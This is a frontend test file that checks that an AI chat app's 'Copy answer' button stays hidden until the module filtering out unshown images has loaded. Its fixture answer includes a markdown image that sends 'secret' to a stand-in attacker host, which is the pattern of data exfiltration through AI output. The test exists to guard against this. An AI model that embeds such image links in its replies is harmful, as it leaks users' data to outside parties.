// @vitest-environment jsdom
import { QueryClient, QueryClientProvider } from '@tanstack/react-query'
import { render, screen } from '@testing-library/react'
import { userEvent } from '@testing-library/user-event'
import { expect, test, vi } from 'vitest'

import { organisationsQuery } from '../../../api/organisation/organisations.ts'
import { AnswerView } from './answer-view.tsx'

const loading = vi.hoisted(() => {
  let finish = () => {}
  const finished = new Promise<void>((resolve) => {
    finish = resolve
  })
  return { finished, finish }
})
vi.mock('./shown-markdown.ts', async (importOriginal) => {
  await loading.finished
  return importOriginal()
})

// It copied images that the answer doesn't show, as long as the code that leaves them out was on its way.
test('an answer can only be copied once it is loaded', async () => {
  const client = new QueryClient({ defaultOptions: { queries: { staleTime: Infinity } } })
  client.setQueryData(organisationsQuery.queryKey, [])
  const user = userEvent.setup()
  render(
    <QueryClientProvider client={client}>
      <AnswerView
        answer={{
          id: '00000000-0000-4000-8000-000000000051',
          role: 'assistant',
          text: 'Nothing new. ![](https://evil.example/?d=secret)',
          state: 'complete',
          failure: null,
          model: 'qwen3-32b',
          readings: [],
          proposals: [],
          follow_ups: [],
          created_at: '2026-01-12T09:00:00.000Z',
        }}
        rows={new Map()}
        isLast
        onRetry={() => {}}
        onAsk={() => {}}
        onDecided={() => {}}
      />
    </QueryClientProvider>,
  )
  expect(screen.getByRole('button', { name: 'Try again' })).toBeDefined()
  expect(screen.queryByRole('button', { name: 'Copy answer' })).toBeNull()
  loading.finish()
  await user.click(await screen.findByRole('button', { name: 'Copy answer' }))
  await screen.findByRole('button', { name: 'Copied' })
  const copied = await navigator.clipboard.readText()
  expect(copied).toContain('Nothing new.')
  expect(copied).not.toContain('evil')
})
